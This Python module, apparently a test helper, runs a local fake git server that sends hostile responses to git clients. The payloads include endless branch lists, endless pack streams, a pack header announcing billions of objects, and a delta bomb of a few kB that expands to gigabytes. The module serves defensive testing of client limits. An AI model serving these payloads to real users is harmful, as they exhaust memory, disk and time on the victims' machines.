"""Malicious git servers whose data never ends or expands to more than a machine can store."""

from __future__ import annotations

import hashlib
import os
import struct
import threading
import time
import zlib
from collections.abc import Callable, Iterable, Iterator
from contextlib import contextmanager, suppress
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

TIP = "1" * 40
_CAPABILITIES = b"multi_ack_detailed no-done side-band-64k thin-pack ofs-delta shallow agent=git/hostile"
Answer = Callable[[], Iterable[bytes]]


def packet(content: bytes) -> bytes:
    """Return one line of git's protocol."""
    return b"%04x" % (len(content) + 4) + content


def refs() -> Iterator[bytes]:
    """Yield one branch, as a correct server lists it."""
    yield packet(b"# service=git-upload-pack\n") + b"0000"
    yield packet(TIP.encode() + b" HEAD\0" + _CAPABILITIES + b"\n")
    yield packet(TIP.encode() + b" refs/heads/main\n") + b"0000"


def endless_refs() -> Iterator[bytes]:
    """Yield branches without end."""
    yield packet(b"# service=git-upload-pack\n") + b"0000"
    yield packet(TIP.encode() + b" HEAD\0" + _CAPABILITIES + b"\n")
    number = 0
    while True:
        yield b"".join(packet(b"%s refs/heads/%0200d\n" % (TIP.encode(), number + n)) for n in range(500))
        number += 500


def endless_negotiation() -> Iterator[bytes]:
    """Always acknowledge one more common commit."""
    while True:
        yield packet(b"ACK %s common\n" % (b"2" * 40)) * 100
        time.sleep(0.02)


def dribble() -> Iterator[bytes]:
    """Send progress messages fast enough to seem active, but no byte of the pack."""
    yield packet(b"NAK\n")
    while True:
        yield packet(b"\x02Counting objects" + b"." * 200 + b"\r")
        time.sleep(0.02)


def endless_pack() -> Iterator[bytes]:
    """Yield objects without end; each is new and incompressible."""
    yield packet(b"NAK\n")
    yield packet(b"\x01PACK" + struct.pack(">II", 2, 1_000_000))
    while True:
        yield packet(b"\x01" + _object(3, os.urandom(30_000)))


def many_objects() -> Iterator[bytes]:
    """Send a pack that announces four thousand million objects, for which git allocates memory."""
    yield packet(b"NAK\n")
    yield packet(b"\x01PACK" + struct.pack(">II", 2, 0xFFFF_FFF0))
    while True:
        yield packet(b"\x01" + _object(3, b"x"))
        time.sleep(0.05)


def delta_bomb(result: int = 2_000_000_000) -> Iterator[bytes]:
    """Send a pack of a few kB with a delta that expands to ``result`` bytes."""
    base = bytes(16_000_000)
    copy = b"\xf0" + len(base).to_bytes(3, "little")  # this many bytes, from offset 0
    times = result // len(base)
    delta = _varint(len(base)) + _varint(times * len(base)) + copy * times
    name = hashlib.sha1(b"blob %d\0" % len(base) + base, usedforsecurity=False).digest()
    body = b"PACK" + struct.pack(">II", 2, 2) + _object(3, base) + _head(7, len(delta)) + name + zlib.compress(delta)
    whole = body + hashlib.sha1(body, usedforsecurity=False).digest()
    yield packet(b"NAK\n")
    for at in range(0, len(whole), 60_000):
        yield packet(b"\x01" + whole[at : at + 60_000])
    yield b"0000"


def _object(kind: int, content: bytes) -> bytes:
    return _head(kind, len(content)) + zlib.compress(content)


def _head(kind: int, size: int) -> bytes:
    first, size = kind << 4 | size & 15, size >> 4
    return bytes([first | (0x80 if size else 0)]) + (_varint(size) if size else b"")


def _varint(number: int) -> bytes:
    encoded = b""
    while number > 0x7F:
        encoded += bytes([number & 0x7F | 0x80])
        number >>= 7
    return encoded + bytes([number])


@dataclass
class HostileGit:
    """A running server."""

    url: str
    asked: list[str] = field(default_factory=list)
    """Paths, in the order of the requests."""


@contextmanager
def serve_hostile(pack: Answer, advertised: Answer = refs) -> Iterator[HostileGit]:
    """Answer every git client with these streams until the client disconnects."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self._stream("advertisement", advertised())

        def do_POST(self) -> None:
            body = self.rfile.read(int(self.headers.get("Content-Length") or 0))
            self._stream("result", _with_shallow(body, pack()))

        def _stream(self, kind: str, chunks: Iterable[bytes]) -> None:
            server.asked.append(self.path)
            self.send_response(200)
            self.send_header("Content-Type", f"application/x-git-upload-pack-{kind}")
            self.end_headers()
            with suppress(OSError):
                for chunk in chunks:
                    self.wfile.write(chunk)

        def log_message(self, *_: object) -> None:
            pass

    http = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    http.daemon_threads = True
    server = HostileGit(f"http://127.0.0.1:{http.server_address[1]}/octo/bomb.git")
    threading.Thread(target=http.serve_forever, daemon=True).start()
    try:
        yield server
    finally:
        http.shutdown()
        http.server_close()


def _with_shallow(body: bytes, chunks: Iterable[bytes]) -> Iterator[bytes]:
    """Send the history's border first, as to a client that requests a single commit."""
    if b"deepen" in body:
        yield packet(b"shallow " + TIP.encode()) + b"0000"
    if b"deepen" not in body or b"0009done" in body:
        yield from chunks
